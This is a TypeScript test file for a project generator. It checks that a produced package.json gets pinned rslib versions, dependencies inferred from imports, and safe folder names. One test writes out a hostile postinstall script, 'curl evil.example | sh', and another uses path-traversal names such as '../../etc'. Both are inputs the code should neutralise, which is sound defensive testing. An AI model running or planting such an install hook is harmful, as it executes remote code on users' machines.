import { readFileSync } from 'node:fs';
import { describe, expect, test } from '@rstest/core';
import { readPinnedVersions } from '../../plugins/pinnedVersions.ts';
import { downloadProject } from './downloadProject.ts';

const versions = readPinnedVersions('.');
const manifestOf = (files: Record<string, string>) => {
  const text = downloadProject(files, versions).files['package.json'] ?? '';
  return JSON.parse(text) as Record<string, object>;
};
const neededBy = (files: Record<string, string>) =>
  Object.keys(manifestOf(files).devDependencies ?? {});

describe('what is installed', () => {
  test('has the versions of the lockfile', () => {
    const { devDependencies: ours } = JSON.parse(
      readFileSync('package.json', 'utf8'),
    ) as { devDependencies: Record<string, string> };
    expect(versions['@rslib/core']).toBe(ours['@rslib/core']);
    for (const version of Object.values(versions))
      expect(version).toMatch(/^\d+\.\d+\.\d+$/);
    const { devDependencies } = manifestOf({ 'src/index.ts': '' });
    expect(devDependencies).toEqual({
      '@rslib/core': versions['@rslib/core'],
      typescript: versions['typescript'],
    });
  });

  test.each([
    ['nothing else', 'src/index.js', 'export {};', []],
    ['an import', 'a.js', "import mitt from 'mitt';", ['mitt']],
    ['a file of it', 'a.js', 'import "vue/server";', ['vue']],
    [
      'a plugin',
      'rslib.config.mjs',
      "'@rsbuild/plugin-vue'",
      ['@rsbuild/plugin-vue', 'vue'],
    ],
    [
      'React with its types',
      'a.jsx',
      "from 'react'",
      ['@types/react', 'react'],
    ],
    ['types of Node.js', 'a.js', "from 'node:fs'", ['@types/node']],
    [
      'them in a tsconfig',
      'tsconfig.json',
      '{ "types": ["node"] }',
      ['@types/node'],
    ],
    [
      'bundled declarations',
      'rslib.config.js',
      'dts: { bundle: true }',
      ['@microsoft/api-extractor'],
    ],
    ['no stranger', 'a.js', "from 'evil'; from '__proto__'", []],
  ])('%s', (_, file, text, names) => {
    expect(neededBy({ [file]: text })).toEqual(
      ['@rslib/core', ...names].sort(),
    );
  });

  test('leaves what the project has', () => {
    const own = {
      dependencies: { mitt: '^3.0.1' },
      devDependencies: { typescript: '5.9.3', other: '1.0.0' },
    };
    const files = {
      'src/index.ts': "import mitt from 'mitt';",
      'package.json': JSON.stringify(own),
    };
    expect(manifestOf(files)).toMatchObject({
      ...own,
      devDependencies: {
        ...own.devDependencies,
        '@rslib/core': versions['@rslib/core'],
      },
    });
    expect(neededBy(files)).not.toContain('mitt');
  });
});

describe('package.json', () => {
  test('has no scripts but the build, whatever a link brought', () => {
    const scripts = { postinstall: 'curl evil.example | sh' };
    const files = { 'package.json': JSON.stringify({ scripts }) };
    expect(manifestOf(files).scripts).toEqual({
      build: 'rslib',
      dev: 'rslib --watch',
    });
  });

  test.each(['', '{', 'null', '[]', '{"name":1,"devDependencies":[1]}'])(
    'is one even if it was %j',
    text => {
      expect(manifestOf({ 'package.json': text })).toMatchObject({
        name: 'my-library',
        devDependencies: { '@rslib/core': versions['@rslib/core'] },
      });
    },
  );
});

test.each([
  ['event-log', 'event-log'],
  ['@scope/event-log', 'event-log'],
  ['../../etc', 'my-library'],
  ['/etc', 'my-library'],
  ['..', 'my-library'],
  ['a\\b', 'my-library'],
  ['', 'my-library'],
])('the folder of %j is %s', (name, folder) => {
  const files = { 'package.json': JSON.stringify({ name }) };
  expect(downloadProject(files, versions).folder).toBe(folder);
});
